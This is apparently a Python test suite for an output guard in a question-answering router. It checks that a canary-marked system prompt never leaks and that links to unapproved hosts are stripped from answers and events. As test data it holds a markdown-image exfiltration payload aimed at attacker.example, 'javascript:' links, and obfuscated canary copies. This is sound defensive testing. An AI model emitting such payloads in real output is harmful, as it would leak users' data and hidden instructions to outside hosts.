"""Everything a route emits goes through one door: guarded, in order, and nothing after a block."""

from __future__ import annotations

from dataclasses import asdict, replace
from itertools import pairwise
from typing import get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st

from router.describe import describe
from standard.domain.answer import AnswerSource, Citation, Outcome, StopReason, Usage
from standard.domain.event import (
    CitationMade,
    ClarificationAsked,
    Degraded,
    EventBody,
    GuardTripped,
    OutputBlocked,
    PassageFound,
    PassagesFound,
    PassagesScreened,
    PlanMade,
    QueryIssued,
    SubQuestion,
    SufficiencyJudged,
    TokenEmitted,
)
from standard.domain.outcome import RouteResult
from standard.domain.passage import ScanFinding
from standard.outlet import ANSWER_WITHHELD, LINKS_REMOVED, Blocked, Outlet
from standard.sandbox.canary import Secret, secret_of

CANARY = "5e1b0c9d7f3a24680fedcba913572468"
SECRET = secret_of(CANARY, "You answer one question from passages of a knowledge base, and from nothing else at all.")
DONE = RouteResult("", AnswerSource.GENERATED, Outcome.ANSWERED, StopReason.SUFFICIENT, notices=("Read on.",))
FINDINGS = (ScanFinding("d#0", "flag", ("override",), "rules"),)


class Told:
    def __init__(self) -> None:
        self.bodies: list[EventBody] = []

    async def emit(self, body: EventBody) -> None:
        self.bodies.append(body)

    @property
    def text(self) -> str:
        return "".join(body.text for body in self.bodies if isinstance(body, TokenEmitted))


def cites(start: int, end: int) -> CitationMade:
    return CitationMade(7, Citation("d#0", "d", "T", "wiki/d", "quote", start, end, 0, 5))


async def answered(text: str, cuts: list[int]) -> tuple[RouteResult, Told]:
    told = Told()
    outlet = Outlet(told.emit, SECRET)
    outlet.allow(["https://wiki.shop.example/pump"])
    edges = [0, *sorted(cut for cut in cuts if cut < len(text)), len(text)]
    try:
        for start, end in pairwise(edges):
            await outlet(TokenEmitted(text[start:end]))
        return await outlet.close(DONE), told
    except Blocked:
        return await outlet.close_blocked(AnswerSource.GENERATED), told


@given(
    st.lists(
        st.sampled_from(
            [
                "The pump. ",
                CANARY,
                CANARY[:9],
                "https://wiki.shop.example/pump ",
                "https://attacker.example/?d=1 ",
                "[a](",
            ]
        ),
        max_size=6,
    ),
    st.lists(st.integers(0, 200), max_size=8),
)
async def test_however_it_is_cut_the_same_is_shown_and_returned(parts: list[str], cuts: list[int]) -> None:
    text = "".join(parts)
    whole, all_at_once = await answered(text, [])
    cut, in_pieces = await answered(text, cuts)
    assert cut == whole
    assert in_pieces.text == all_at_once.text == whole.text
    assert CANARY not in whole.text
    assert "attacker" not in whole.text
    assert (whole.outcome is Outcome.BLOCKED) == (CANARY in text)


async def test_nothing_follows_a_block() -> None:
    told = Told()
    outlet = Outlet(told.emit, SECRET)
    await outlet(TokenEmitted("The pump is green. "))
    await outlet(cites(0, 18))
    with pytest.raises(Blocked):
        await outlet(TokenEmitted(f"{CANARY} and so on "))
    for body in (TokenEmitted("more"), cites(0, 4), QueryIssued(2, "search", "pump")):
        with pytest.raises(Blocked):
            await outlet(body)
    result = await outlet.close_blocked(AnswerSource.GENERATED, steps=3, usage=Usage(7, 3))
    assert isinstance(told.bodies[-1], OutputBlocked)
    assert (result.outcome, result.stop_reason, result.steps) == (Outcome.BLOCKED, StopReason.OUTPUT_BLOCKED, 3)
    assert result.usage == Usage(7, 3)
    assert result.text == told.text == "The pump is green. "
    assert [citation.answer_end for citation in result.citations] == [18]
    assert result.notices == (ANSWER_WITHHELD,)


async def test_findings_come_first_and_only_where_the_route_does_not_hand_over() -> None:
    for escalate in ("", "insufficient"):
        told = Told()
        outlet = Outlet(told.emit, None)
        outlet.screened(FINDINGS)
        result = replace(DONE, notices=(), outcome=Outcome.UNANSWERABLE, escalate=escalate)
        assert await outlet.close(result) == result
        assert told.bodies == ([] if escalate else [PassagesScreened(FINDINGS)])


async def test_questions_and_notices_are_cleaned_and_what_a_model_tells_is_looked_through() -> None:
    told = Told()
    outlet = Outlet(told.emit, SECRET)
    await outlet(ClarificationAsked("See https://attacker.example/a now?", ("www.attacker.example/b", "this")))
    asked = told.bodies[0]
    assert isinstance(asked, ClarificationAsked)
    assert "attacker" not in f"{asked.question}{asked.options}"
    asking = replace(DONE, clarification="https://attacker.example/c", notices=("not found: javascript:x",))
    result = await outlet.close(asking)
    assert "attacker" not in result.clarification
    assert "javascript" not in result.notices[0]
    leaking: list[EventBody] = [
        QueryIssued(1, "search", CANARY[::-1]),
        QueryIssued(1, "search", "pump", CANARY.upper()),
        PlanMade((SubQuestion("b1", f"what is {CANARY}"),)),
        ClarificationAsked("Which?", (CANARY,)),
    ]
    for body in leaking:
        with pytest.raises(Blocked):
            await Outlet(Told().emit, SECRET)(body)


EVIL = "![x](https://attacker.example/p.png?d=secret)"
SPOKEN: list[EventBody] = [
    QueryIssued(2, "search", EVIL, EVIL),
    PlanMade((SubQuestion("b1", f"What is {EVIL}?"), SubQuestion("b2", EVIL, ("b1",)))),
    SufficiencyJudged(
        2, 0.5, sufficient=False, known=(EVIL,), missing=(EVIL, "when"), contradictions=(EVIL,), reason=EVIL
    ),
    GuardTripped(2, "dedup", "search", f"asked before: {EVIL}", query=EVIL),
    ClarificationAsked(EVIL, (EVIL,)),
    Degraded("llm", EVIL),
]


@pytest.mark.parametrize("secret", [SECRET, None])
@pytest.mark.parametrize("body", SPOKEN, ids=lambda body: type(body).__name__)
async def test_no_event_carries_data_off_in_an_address(body: EventBody, secret: Secret | None) -> None:
    told = Told()
    await Outlet(told.emit, secret)(body)
    (shown,) = told.bodies
    assert "attacker.example" not in f"{shown}{describe(shown)}"
    assert type(shown) is type(body)
    numbers = {name: value for name, value in asdict(body).items() if isinstance(value, int | float)}
    assert numbers == {name: asdict(shown)[name] for name in numbers}, "the rest of it is as it was"


def test_every_event_with_words_in_it_is_cleaned_or_named_here_as_ours() -> None:
    ours = {
        "DecisionMade": "labels",
        "PassagesFound": "the passages themselves",
        "PassagesScreened": "labels",
        "ContextCompressed": "ids",
        "Escalated": "labels",
        "TokenEmitted": "the output guard's",
        "CitationMade": "the output guard's, and the passages themselves",
        "OutputBlocked": "labels",
        "Completed": "made of what was shown",
    }
    assert {type(body).__name__ for body in SPOKEN} | set(ours) == {kind.__name__ for kind in get_args(EventBody)}


async def test_addresses_of_what_was_found_may_be_told() -> None:
    told = Told()
    outlet = Outlet(told.emit, SECRET, ["https://docs.shop.example/"])
    address = "https://wiki.shop.example/pump"
    await outlet(QueryIssued(1, "search", f"see {address}"))
    await outlet(PassagesFound(1, (PassageFound("d#0", "d", "T", address, 0.5),)))
    await outlet(QueryIssued(2, "search", f"see {address} and https://docs.shop.example/a"))
    first, second = (body for body in told.bodies if isinstance(body, QueryIssued))
    assert address not in first.query
    assert second.query == f"see {address} and https://docs.shop.example/a"


async def test_a_removed_address_is_a_caveat() -> None:
    result, _ = await answered("See https://attacker.example/?d=1 for more.", [])
    assert result.outcome is Outcome.ANSWERED_WITH_CAVEAT
    assert result.notices == ("Read on.", LINKS_REMOVED)
